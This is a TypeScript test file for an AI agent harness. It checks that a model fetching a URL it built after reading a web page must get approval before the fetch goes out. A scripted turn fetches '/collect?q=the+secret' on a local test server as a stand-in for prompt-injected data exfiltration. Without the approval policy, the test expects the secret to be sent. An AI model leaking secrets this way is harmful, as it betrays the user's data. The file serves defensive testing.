// A page that makes the model carry data out in an address, and a research that reads page after page.
import {describe, expect, test} from 'vitest';
import {calls, openWithPage, READS_PAGE} from '../../support/foreign-page.ts';
import type {Door} from '../../support/http-door.ts';
import {NOTHING_ASKS} from '../../support/nothing-asks.ts';
import type {ScriptedTurn} from '../../support/scripted-model.ts';
import {webServer} from '../../support/web-server.ts';

/** A site whose pages link to each other, and that notes what it was asked for. */
const openSite = async () => {
  const asked: string[] = [];
  const page =
    (text: string) => (request: {readonly url?: string | undefined}, response: {end(text: string): void}) => {
      asked.push(request.url ?? '');
      response.end(text);
    };
  let links = '';
  const site = await webServer({
    '/': (request, response) => page(links)(request, response),
    '/second': page('Prune in winter.'),
    '/collect': page('Thank you.'),
  });
  links = `Read ${site.url('/second')} too.`;
  return Object.assign(site, {asked});
};

const fetches = (url: string): ScriptedTurn => calls({name: 'web_fetch', input: {url}});
const openQuestions = async ({fixture}: Door) => (await fixture.call('approval.list', {state: 'open'})).approvals;

describe.each([
  ['with the fence', {}, false],
  ['without it', NOTHING_ASKS, true],
] as const)('%s', (_, policy, isSent) => {
  test('an address that the model made up after reading a page carries what it knows: it asks first', async () => {
    await using site = await openSite();
    const steal = fetches(`${site.url('/collect')}?q=the+secret`);
    await using door = await openWithPage([READS_PAGE, steal, 'Done.'], {policy});
    const {turnId} = await door.fixture.call('session.send', {text: 'what do the figs need?'});
    if (!isSent) {
      const {approval} = await door.fixture.event('approval.asked');
      expect(approval.effects).toMatchObject([{kind: 'fetch'}]);
      expect(approval.effect).toContain(`${site.url('/collect')}?q=the+secret, after reading figs.example.`);
      expect(site.asked).toEqual([]);
      await door.fixture.call('approval.answer', {id: approval.id, answer: 'deny'});
    }
    await door.fixture.event('turn.ended', ended => ended.turnId === turnId);
    expect(site.asked).toEqual(isSent ? ['/collect?q=the+secret'] : []);
  });
});

test("a research reads the person's address, a link of that page and the page again without a question", async () => {
  await using site = await openSite();
  const answers = [fetches(site.url('/')), fetches(site.url('/second')), fetches(site.url('/')), 'In winter.'];
  await using door = await openWithPage(answers, {policy: {}});
  await door.fixture.say(`When do I prune? See ${site.url('/')}`);
  expect(site.asked).toEqual(['/', '/second', '/']);
  expect(await openQuestions(door)).toEqual([]);
});

test('an address that its person approves is fetched, exactly as it was shown', async () => {
  await using site = await openSite();
  const own = fetches(`${site.url('/collect')}?page=2`);
  await using door = await openWithPage([READS_PAGE, own, 'Read.'], {policy: {}});
  const {turnId} = await door.fixture.call('session.send', {text: 'read on'});
  const {approval} = await door.fixture.event('approval.asked');
  await door.fixture.call('approval.answer', {id: approval.id, answer: 'approve'});
  await door.fixture.event('turn.ended', ended => ended.turnId === turnId);
  expect(site.asked).toEqual(['/collect?page=2']);
});
